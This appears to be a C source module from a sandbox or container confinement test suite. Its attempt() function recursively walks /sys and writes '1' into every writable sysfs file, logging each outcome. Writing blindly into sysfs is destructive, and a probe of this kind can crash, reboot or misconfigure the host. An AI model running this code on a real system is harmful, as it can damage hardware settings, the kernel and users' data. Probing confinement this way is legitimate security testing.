/* Writes to every file of /sys that it may (sysfs(5)). */
#include "common/attack.h"

static void below(const char *path, int depth) {
    DIR *directory = opendir(path);
    struct dirent *entry;
    while (directory && (entry = readdir(directory))) {
        char file[PATH_MAX];
        snprintf(file, sizeof file, "%s/%s", path, entry->d_name);
        if (entry->d_name[0] == '.' || !strcmp(file, "/sys/fs/cgroup")) {
            continue;
        }
        if (entry->d_type == DT_DIR && depth > 0) {
            below(file, depth - 1);
        } else if (entry->d_type == DT_REG) {
            int fd = open(file, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
            if (fd >= 0) {
                printf("%s: %s\n", file, write(fd, "1", 1) == 1 ? "written" : strerror(errno));
                close(fd);
            }
        }
    }
    if (directory) {
        closedir(directory);
    }
}

static void attempt(void) {
    below("/sys", 6);
}
